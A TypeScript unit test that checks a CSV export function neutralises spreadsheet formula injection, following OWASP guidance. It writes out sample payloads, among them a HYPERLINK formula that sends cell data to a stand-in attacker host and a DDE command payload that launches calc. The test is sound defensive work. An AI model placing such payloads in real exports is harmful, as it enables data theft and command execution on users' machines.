import assert from "node:assert/strict";
import { describe, it } from "node:test";
import type { StoredOutcome } from "../../../core/outcomes/index.js";
import { outcomesToCsv } from "../../../operations/outcomes/outcomesToCsv.js";
import { parseCsv } from "../../support/parseCsv.js";

function outcome(id: string, extra: Partial<StoredOutcome> = {}): StoredOutcome {
  return {
    policy: "ticket-routing",
    id,
    status: "fallback",
    created_at: "2026-12-01T10:00:00.000Z",
    updated_at: "2026-12-01T10:00:00.000Z",
    answers: { queue: { answer: "triage", probability: 0.45, source: "fallback", model_answer: "billing" } },
    ...extra,
  } as StoredOutcome;
}

/** A first character that Excel, LibreOffice or Google Sheets read as the start of a formula. */
const FORMULA = /^[=+\-@\t\r]/;

describe("outcomesToCsv", () => {
  it("writes every cell that would start a formula as text behind a quote mark (OWASP)", () => {
    const attacks = [
      '=HYPERLINK("http://attacker.invalid/?x="&A1,"click")',
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "+1+1",
      "-2+3",
      "\t=1",
      "\r=1",
    ];
    const outcomes = attacks.map((id, index) =>
      outcome(id, { reason: attacks[(index + 1) % attacks.length], state_preview: "=1+1" }),
    );

    const rows = parseCsv(outcomesToCsv(outcomes));

    const cells = rows.slice(1).flat();
    assert.deepEqual(
      cells.filter((cell) => FORMULA.test(cell)),
      [],
      "no cell starts a formula",
    );
    assert.deepEqual(
      rows.slice(1).map((row) => row[1]),
      attacks.map((id) => `'${id}`),
      "each id is its own text behind one quote mark",
    );
    assert.equal(rows[1]?.at(-1), "'=1+1");
  });

  it("keeps ordinary cells and numbers as they are", () => {
    const rows = parseCsv(outcomesToCsv([outcome("T-1", { reason: 'a "quoted", reason' })]));

    assert.deepEqual(rows[1]?.slice(0, 10), [
      "ticket-routing",
      "T-1",
      "fallback",
      "2026-12-01T10:00:00.000Z",
      "2026-12-01T10:00:00.000Z",
      'a "quoted", reason',
      "triage",
      "0.45",
      "fallback",
      "billing",
    ]);
  });
});
